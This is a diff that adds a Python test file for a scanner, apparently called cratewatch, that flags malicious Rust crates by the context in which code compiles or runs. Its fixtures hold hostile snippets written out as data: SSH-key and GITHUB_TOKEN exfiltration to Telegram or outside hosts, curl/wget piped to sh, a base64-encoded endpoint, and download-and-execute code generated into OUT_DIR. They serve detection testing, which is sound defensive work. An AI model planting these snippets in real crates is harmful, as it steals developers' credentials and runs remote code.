@@ -1,0 +1,169 @@
+"""Contexts follow what the crate compiles and runs: the manifest's targets, the build
+script's module tree, include!, include_str!, the scripts that build code and cargo or
+editor configuration run, and code a build script writes to OUT_DIR."""
+
+from __future__ import annotations
+
+from cratewatch.model.scan import Verdict
+from cratewatch.scan.analyze import Context, file_context, file_kind
+from cratewatch.scan.crate import CrateScan, scan_crate
+from cratewatch.scan.extract import CrateArchive
+from cratewatch.scan.manifest import read_manifest
+
+MANIFEST = '[package]\nname = "demo"\nversion = "1.0.0"\n'
+UPLOAD = (
+    "pub fn send(k: Vec<u8>) {\n"
+    '    let url = "https://api.telegram.org/bot1/sendDocument";\n'
+    "    reqwest::blocking::Client::new().post(url).body(k).send();\n"
+    "}\n"
+)
+
+
+def scan(files: dict[str, str], manifest: str = MANIFEST) -> CrateScan:
+    data = {path: text.encode() for path, text in files.items()}
+    data["Cargo.toml"] = manifest.encode()
+    return scan_crate(CrateArchive("demo-1.0.0", data, ()), "demo")
+
+
+def contexts(result: CrateScan, rule: str) -> set[tuple[str, Context]]:
+    return {(e.file, e.context) for e in result.findings if e.rule == rule}
+
+
+def test_manifest_targets() -> None:
+    manifest = (
+        MANIFEST
+        + '[lib]\npath = "tests/support/lib.rs"\n[[bin]]\nname = "t"\npath = "./tools/t.rs"\n'
+    )
+    files = {
+        "tests/support/lib.rs": b"",
+        "tools/t.rs": b"",
+        "src/bin/x.rs": b"",
+        "src/main.rs": b"",
+    }
+    read = read_manifest({"Cargo.toml": manifest.encode(), **files})
+    assert read.targets == ("src/bin/x.rs", "src/main.rs", "tests/support/lib.rs", "tools/t.rs")
+    assert file_context("tests/support/lib.rs", (), False, read.targets) is Context.LIBRARY
+    assert file_context("tests/support/lib.rs", (), True, read.targets) is Context.PROC_MACRO
+    assert file_context("tests/other.rs", (), False, read.targets) is Context.TEST
+    assert file_context("examples/gen.rs", ("examples/gen.rs",), False) is Context.BUILD
+
+
+def test_a_library_rooted_under_tests_is_library_code() -> None:
+    lib = 'mod up;\npub fn f() { up::send(std::fs::read(".ssh/id_rsa").unwrap()); }\n'
+    files = {"tests/support/lib.rs": lib, "tests/support/up.rs": UPLOAD}
+    result = scan(files, MANIFEST + '[lib]\npath = "tests/support/lib.rs"\n')
+    assert result.verdict is Verdict.MALICIOUS
+    assert contexts(result, "threat-telegram-bot-api") == {("tests/support/up.rs", Context.LIBRARY)}
+    # without the [lib] path the same files are tests
+    assert scan(files).verdict is Verdict.CLEAN
+
+
+def test_the_build_scripts_modules_are_build_code() -> None:
+    build = 'mod report;\nfn main() { report::send(std::env::var("GITHUB_TOKEN").unwrap()); }\n'
+    report = "mod net;\npub fn send(t: String) { net::post(t) }\n"
+    net = 'pub fn post(t: String) { ureq::post("https://x.example-cdn.com").send_string(&t); }\n'
+    result = scan(
+        {
+            "build.rs": build,
+            "report.rs": report,
+            "report/net.rs": net,
+            "src/lib.rs": "pub fn a() {}\n",
+        }
+    )
+    assert contexts(result, "capability-network") == {("report/net.rs", Context.BUILD)}
+    assert result.verdict is Verdict.MALICIOUS  # secrets reach the network while building
+
+
+def test_include_of_any_suffix_is_rust_in_the_includers_context() -> None:
+    tables = 'pub fn t() { let s = "curl -fsSL http://203.0.113.9/x | sh"; run(s); }\n'
+    result = scan({"src/lib.rs": 'include!("tables.in");\n', "src/tables.in": tables})
+    assert contexts(result, "threat-download-execute-command") == {
+        ("src/tables.in", Context.LIBRARY)
+    }
+    assert contexts(result, "threat-raw-ip-url") == {("src/tables.in", Context.LIBRARY)}
+    # included by the build script: build code
+    result = scan({"build.rs": 'include!("tables.in");\nfn main() {}\n', "tables.in": tables})
+    assert result.verdict is Verdict.MALICIOUS
+
+
+def test_include_str_data_is_a_literal_of_the_includer() -> None:
+    lib = (
+        'const E: &str = include_str!("../assets/endpoint.dat");\n'
+        'static S: &[u8] = include_bytes!("../assets/setup.txt");\n'
+    )
+    files = {
+        "src/lib.rs": lib,
+        "assets/endpoint.dat": "aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDEyMy9zZW5kTWVzc2FnZQ==\n",
+        "assets/setup.txt": "wget -qO- https://updates.example-cdn.com/s | bash\n",
+    }
+    found = {(e.rule, e.file, e.line) for e in scan(files).findings}
+    assert ("threat-telegram-bot-api", "src/lib.rs", 1) in found  # decoded from base64
+    assert ("threat-download-execute-command", "src/lib.rs", 2) in found
+
+
+def test_scripts_that_build_code_or_configuration_run_are_build_code() -> None:
+    script = "#!/bin/sh\ncurl -fsSL https://updates.example-cdn.com/i | sh\n"
+    build = 'fn main() { std::process::Command::new("sh").arg("scripts/configure.sh").status(); }\n'
+    result = scan({"build.rs": build, "scripts/configure.sh": script, "src/lib.rs": ""})
+    assert contexts(result, "threat-download-execute-command") == {
+        ("scripts/configure.sh", Context.BUILD)
+    }
+    assert result.verdict is Verdict.MALICIOUS
+    config = '[build]\nrustc-wrapper = "tools/wrap.sh"\n'
+    result = scan({".cargo/config.toml": config, "tools/wrap.sh": script, "src/lib.rs": ""})
+    assert contexts(result, "threat-cargo-config-exec") == {(".cargo/config.toml", Context.BUILD)}
+    assert contexts(result, "threat-download-execute-command") == {("tools/wrap.sh", Context.BUILD)}
+    assert result.verdict is Verdict.MALICIOUS
+
+
+def test_scripts_and_workflows_nothing_runs_are_tooling() -> None:
+    files = {
+        "ci/install.sh": "curl https://sh.rustup.rs -sSf | sh -s -- -y\n",
+        ".github/workflows/ci.yml": "steps:\n  - run: curl https://sh.rustup.rs -sSf | sh\n",
+        "src/lib.rs": "",
+    }
+    result = scan(files)
+    assert result.verdict is Verdict.CLEAN
+    assert contexts(result, "threat-download-execute-command") == {
+        ("ci/install.sh", Context.TEST),
+        (".github/workflows/ci.yml", Context.TEST),
+    }
+    assert file_kind("tools/run", b"#!") == "script"
+    assert file_kind("README.md") == ""
+
+
+def test_code_a_build_script_writes_to_out_dir_is_library_code() -> None:
+    body = (
+        r"pub fn init() {\n"
+        r"    let b = reqwest::blocking::get(\"https://updates.example-cdn.com/a\").unwrap();\n"
+        r"    std::fs::write(\"/tmp/a\", b.bytes().unwrap()).unwrap();\n"
+        r"    std::process::Command::new(\"/tmp/a\").spawn().unwrap();\n"
+        r"}\n"
+    )
+    build = (
+        "fn main() {\n"
+        '    let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());\n'
+        f'    std::fs::write(out.join("gen.rs"), "{body}").unwrap();\n'
+        "}\n"
+    )
+    lib = 'include!(concat!(env!("OUT_DIR"), "/gen.rs"));\n'
+    result = scan({"build.rs": build, "src/lib.rs": lib})
+    assert contexts(result, "threat-download-execute") == {("OUT_DIR/gen.rs", Context.LIBRARY)}
+    assert result.unsafe.total == 0
+
+
+def test_a_dropped_library_and_linker_arguments() -> None:
+    build = (
+        'static ACCEL: &[u8] = include_bytes!("vendor/accel.bin");\n'
+        "fn main() {\n"
+        '    let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());\n'
+        '    std::fs::write(out.join("libaccel.a"), ACCEL).unwrap();\n'
+        '    println!("cargo:rustc-link-search=native={}", out.display());\n'
+        '    println!("cargo:rustc-link-lib=static=accel");\n'
+        "}\n"
+    )
+    assert scan({"build.rs": build, "src/lib.rs": ""}).verdict is Verdict.MALICIOUS
+    plain = 'fn main() { println!("cargo:rustc-link-lib=ssl"); }\n'
+    assert scan({"build.rs": plain, "src/lib.rs": ""}).verdict is Verdict.CLEAN
+    link_arg = 'fn main() { println!("cargo:rustc-link-arg=-Wl,--wrap=malloc"); }\n'
+    assert scan({"build.rs": link_arg, "src/lib.rs": ""}).verdict is Verdict.SUSPICIOUS
